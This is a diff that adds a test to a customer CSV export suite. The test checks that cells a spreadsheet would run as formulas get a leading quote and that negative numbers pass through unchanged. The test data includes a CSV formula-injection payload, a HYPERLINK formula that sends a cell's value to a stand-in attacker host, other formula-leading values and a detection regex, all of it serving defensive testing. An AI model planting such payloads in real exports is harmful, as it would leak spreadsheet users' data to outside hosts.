@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { exportCustomers } from "~/server/services/export-customers";
 
 import { createLegacyApiClient } from "../support/legacy-api-client";
-import { sessionCookie } from "../support/legacy-client";
+import { createLegacyClient, sessionCookie } from "../support/legacy-client";
 import { sessionTokenOf, startTestServer, type TestServer } from "../support/test-server";
 
 let server: TestServer;
@@ -112,5 +112,36 @@ describe("GET /api/{version}/customers.csv", () => {
         expect(await read(sort, order, 4), `${sort} ${order}`).toEqual(whole);
       }
     }
+  });
+
+  // Last: it renames customer 270, which the name sort above compares under the database's collation.
+  it("writes a text a spreadsheet would run as a formula with a leading quote, and negative numbers as they are", async () => {
+    const written = await createLegacyClient(server.deps).call({
+      customer: { id: "270" },
+      method: "POST",
+      headers: entity1,
+      body: new URLSearchParams({
+        name: '=HYPERLINK("http://evil.test/?leak="&A1,"Open")',
+        comment: "@SUM(1)",
+        phone: "+1",
+        mobile: "-2+3",
+        email: "-2+3@example.test",
+        billingLat: "-33.5",
+        billingLng: "-0.0000001",
+      }),
+    });
+    expect(written.status).toBe(200);
+
+    const row = rowsOf((await exportCsv()).text).find((exported) => exported.id === "270")!;
+    expect([row.name, row.comment, row.phone, row.mobile, row.email]).toEqual([
+      `'=HYPERLINK("http://evil.test/?leak="&A1,"Open")`,
+      "'@SUM(1)",
+      "'+1",
+      "'-2+3",
+      "'-2+3@example.test",
+    ]);
+    expect([row.billingLat, row.billingLng]).toEqual(["-33.5", "-0.0000001"]);
+    const formulaStart = /^[=+\-@\t\r]/;
+    expect(Object.entries(row).filter(([, cell]) => formulaStart.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell))).toEqual([]);
   });
 });
